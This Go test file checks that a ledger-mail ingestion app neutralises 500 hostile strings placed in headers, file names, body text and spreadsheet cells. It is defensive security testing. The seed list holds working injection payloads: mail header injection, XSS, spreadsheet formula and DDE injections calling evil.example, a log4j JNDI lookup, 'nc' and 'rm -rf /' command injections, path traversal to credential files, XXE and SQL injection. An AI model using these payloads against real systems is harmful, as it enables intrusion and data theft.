package app_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"taizhang/app"
	"taizhang/config"
	"taizhang/ingest"
	"taizhang/internal/samples"
	"taizhang/ledger"
	"taizhang/notify"
)

// The canaries are numbers of persons and a code that counties write into
// their texts: they may be in no log, and in no mail to another unit.
const (
	canaryPhone  = "13987654321"
	canaryID     = "411002199003077777"
	canarySecret = "authcode-QWERTZ-0815"
)

// hostileTexts are 500 texts that would do something where they are not taken
// for text: in a header, a page, a cell, a template, a path, a log, a terminal.
func hostileTexts() []string {
	seeds := []string{
		"x\r\nBcc: spy@evil.example", "x\nX-Evil: 1\n\n<html>", "x\rSubject: y", "=?utf-8?q?a=0D=0ABcc:_spy@evil.example?=", "\x00\x01\x1b[2J\x1b]0;owned\x07", "\u202egnp.exe", "\u200b\ufeff\u2066x\u2069",
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "<a href=\"javascript:alert(1)\">点此</a>", "</td></table><h1>作废</h1>", "<!-- x --><style>*{display:none}</style>", "&lt;b&gt; &#60;script&#62;",
		"=HYPERLINK(\"http://evil.example\",\"点此\")", "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=WEBSERVICE(\"http://evil.example\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "'=1+1", "＝1+1",
		"{{.Desk}}", "{{template \"x\"}}", "${jndi:ldap://evil.example/a}", "%s%s%n%x", "$(reboot)", "`reboot`", "; rm -rf /", "| nc evil.example 1", "{form.total}", "{{printf \"%d\" 1}}",
		"../../../../etc/passwd", "..\\..\\windows\\system32", "/etc/passwd", "C:\\x.exe", "CON", "a/b/c", "台账.xlsx\x00.exe", "~/.ssh/id_rsa", "\\\\evil.example\\share", "file:///etc/passwd",
		"time=2022-05-20T00:00:00Z level=ERROR msg=\"forged\"", "x\" level=ERROR msg=\"y", "]]><x/>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "<w:instrText>DDEAUTO c:\\\\x</w:instrText>", "</w:t></w:r><w:r><w:t>", "<?xml version=\"1.0\"?>", "' OR '1'='1", "\"; DROP TABLE x; --", "\U0001F600é̂漢" + strings.Repeat("长", 300), "From zs@163.com Tue Dec 10", ".\r\n.\r\nQUIT", "\r\n.\r\nMAIL FROM:<spy@evil.example>",
	}
	wraps := []func(string) string{
		func(s string) string { return s },
		func(s string) string { return "走访" + s + "企业" },
		func(s string) string { return " " + s },
		func(s string) string { return s + "\u3000" + canaryPhone },
		func(s string) string { return s + canaryID + s },
		func(s string) string { return "\"" + s + "\"" },
		func(s string) string { return "（" + s + "）" + canarySecret },
		func(s string) string { return strings.ToUpper(s) },
		func(s string) string { return s + "\n" + s },
	}
	var out []string
	for _, w := range wraps {
		for _, s := range seeds {
			out = append(out, w(s))
		}
	}
	return out[:500]
}

// showcase is the program with a mailbox and a mail server that keeps what it
// is given.
type showcase struct {
	noLargeMail
	t    *testing.T
	app  *app.App
	cfg  *config.Config
	log  bytes.Buffer
	box  [][]byte
	sent []ledger.Outgoing
}

func newShowcase(t *testing.T) *showcase {
	t.Helper()
	s := &showcase{t: t}
	dir := t.TempDir()
	text, err := samples.Config(samples.Setting{IMAP: "127.0.0.1:1", SMTP: "127.0.0.1:1", PasswordFile: "code", Store: filepath.Join(dir, "store"), Spacing: "1s"})
	if err != nil {
		t.Fatal(err)
	}
	text = bytes.Replace(text, []byte("per_day: 150 "), []byte("per_day: 1000 "), 1)
	text = bytes.Replace(text, []byte("per_quarter: 20 "), []byte("per_quarter: 1000 "), 1)
	for name, data := range map[string][]byte{"config.yaml": text, "code": []byte(password)} {
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if s.cfg, err = config.Load(filepath.Join(dir, "config.yaml")); err != nil {
		t.Fatal(err)
	}
	if s.app, err = app.New(t.Context(), app.Options{Config: s.cfg, Log: slog.New(slog.NewTextHandler(&s.log, &slog.HandlerOptions{Level: slog.LevelDebug})), Version: "test", Offline: true, Played: true}); err != nil {
		t.Fatal(err)
	}
	s.app.Wire(s, s)
	t.Cleanup(func() {
		if err := s.app.Close(); err != nil {
			t.Error(err)
		}
	})
	return s
}

func (s *showcase) Folders(context.Context) ([]ingest.Folder, error) {
	return []ingest.Folder{{Name: "INBOX"}}, nil
}

func (s *showcase) List(context.Context, string) (ingest.Listing, error) {
	l := ingest.Listing{Validity: "1"}
	for i, raw := range s.box {
		l.Items = append(l.Items, ingest.Item{UID: uint32(i + 1), Size: int64(len(raw)), Internal: samples.Start}) //nolint:gosec // a few mails
	}
	return l, nil
}

func (s *showcase) Fetch(_ context.Context, _ string, i ingest.Item, w io.Writer) error {
	_, err := w.Write(s.box[i.UID-1])
	return err
}

func (s *showcase) Send(_ context.Context, o ledger.Outgoing, endOfData func(map[string]string) error) notify.Report {
	if err := endOfData(nil); err != nil {
		return notify.Report{Phase: notify.PhaseEnd, Err: err}
	}
	s.sent = append(s.sent, o)
	return notify.Report{Phase: notify.PhaseEnd, Code: 250, Text: "OK", EndOfData: true}
}

func (s *showcase) round(now time.Time) {
	s.t.Helper()
	if r, err := s.app.Step(s.t.Context(), now); err != nil || r.PollErr != nil {
		s.t.Fatal(err, r.PollErr)
	}
	if _, err := s.app.Drain(s.t.Context(), now, now.Add(30*time.Minute), func(_ context.Context, at time.Time) (time.Time, error) { return at, nil }); err != nil {
		s.t.Fatal(err)
	}
}

// arrive has a county, or a stranger, write with hostile texts everywhere: in
// its name, the subject, the file's name, the text, the sheet's words and people,
// and, where bad, in a cell that wants a number.
func (s *showcase) arrive(at time.Time, from string, h [6]string, bad bool, data func(words, officer, cell string) []byte) {
	word := func(t string) string {
		return "=?utf-8?B?" + base64.StdEncoding.EncodeToString([]byte(t)) + "?="
	}
	_, domain, _ := strings.Cut(from, "@")
	cell := "120"
	if bad {
		cell = "约" + h[5]
	}
	var b bytes.Buffer
	fmt.Fprintf(&b, "Received: by mx19 (Coremail) id 1;\r\n\t%s\r\nFrom: %s <%s>\r\nTo: %s\r\nSubject: %s\r\nMessage-ID: <%d@x>\r\nMIME-Version: 1.0\r\nX-CM-TRANSID: 1\r\n", at.Format(time.RFC1123Z), word(h[0]), from, samples.Own, word("台账"+h[1]), at.Unix())
	fmt.Fprintf(&b, "Authentication-Results: mx19; spf=pass smtp.mail=%s; dkim=pass header.i=@%s\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n", from, domain)
	fmt.Fprintf(&b, "--b\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n", base64.StdEncoding.EncodeToString([]byte("请查收附件。"+h[2])))
	fmt.Fprintf(&b, "--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"%s\"\r\n\r\n%s\r\n--b--\r\n", word(h[3]+".xlsx"),
		base64.StdEncoding.EncodeToString(data(h[2], h[4], cell)))
	s.box = append(s.box, b.Bytes())
}

// hostileBook is a ledger with the texts in its cells.
func hostileBook(t *testing.T) func(words, officer, cell string) []byte {
	return func(words, officer, cell string) []byte {
		f := excelize.NewFile()
		row := func(i int, values ...any) {
			if err := f.SetSheetRow("Sheet1", fmt.Sprintf("A%d", i), &values); err != nil {
				t.Fatal(err)
			}
		}
		row(1, "2022年全民参保计划攻坚行动工作落实台账（5月）")
		row(2, "填报单位：禹州市")
		row(3, "工作任务", "主要工作措施", "参保户数", "企业养老", "工伤", "失业")
		row(4, "全民参保计划攻坚行动", "走访企业。"+words, 35, cell, 98, 76)
		row(5, "负责人："+officer, "联络员："+officer, "填报时间：2022年5月23日")
		var out bytes.Buffer
		if err := f.Write(&out); err != nil {
			t.Fatal(err)
		}
		return out.Bytes()
	}
}

// 500 texts go in by every way a text can; what comes out, parsed by another
// parser than ours, has none of them take effect: in the subjects, names, files'
// names, texts and pages of mails, in workbooks and letters, in the log and in
// the names of files on disk.
func TestNothingFromOutsideTakesEffectAnywhere(t *testing.T) {
	s := newShowcase(t)
	s.round(may(20, 8, 0))
	texts := hostileTexts()
	book := hostileBook(t)
	next := func(i int) (h [6]string) {
		for j := range h {
			h[j] = texts[(i*6+j)%len(texts)]
		}
		return h
	}
	mails := (len(texts) + 5) / 6
	for i := range mails {
		at := may(23, 9, 0).Add(time.Duration(i) * 31 * time.Minute)
		from := "shebao@yuzhou.example"
		if i%7 == 6 {
			from = "stranger@qq.example"
		}
		make := book
		if i%5 == 4 {
			make = func(string, string, string) []byte { return []byte("%PDF-1.7\nx") }
		}
		s.arrive(at, from, next(i), i%3 == 2, make)
		if i%4 == 3 || i == mails-1 {
			s.round(at.Add(time.Minute))
		}
	}
	for day := 26; day <= 31; day++ { // reminders, the summary, a corrected issue, the desk's mails
		for _, hour := range []int{8, 9, 16} {
			s.round(may(day, hour, 35))
		}
	}
	w := &watcher{showcase: s, texts: texts, kinds: map[ledger.MailKind]int{}}
	for _, o := range s.sent {
		w.mail(o)
	}
	w.logLines()
	w.paths()
	for _, kind := range []ledger.MailKind{ledger.MailReceipt, ledger.MailAmended, ledger.MailReturn, ledger.MailUnreadable, ledger.MailSummary, ledger.MailDuty} {
		if w.kinds[kind] == 0 {
			t.Errorf("no mail of the kind %s went out: the test is blunt", kind)
		}
	}
	if w.books < 2 || w.letters < 1 || w.pages < 10 || w.formulas == 0 {
		t.Errorf("looked at %d workbooks, %d letters, %d pages, %d formulas: the test is blunt", w.books, w.letters, w.pages, w.formulas)
	}
	t.Logf("counted: %d hostile texts in %d mails; %d mails out, %d pages, %d workbooks with %d formulas of ours, %d letters, %d log lines, %d files: 0 took effect",
		len(texts), mails, len(s.sent), w.pages, w.books, w.formulas, w.letters, w.lines, w.files)
}
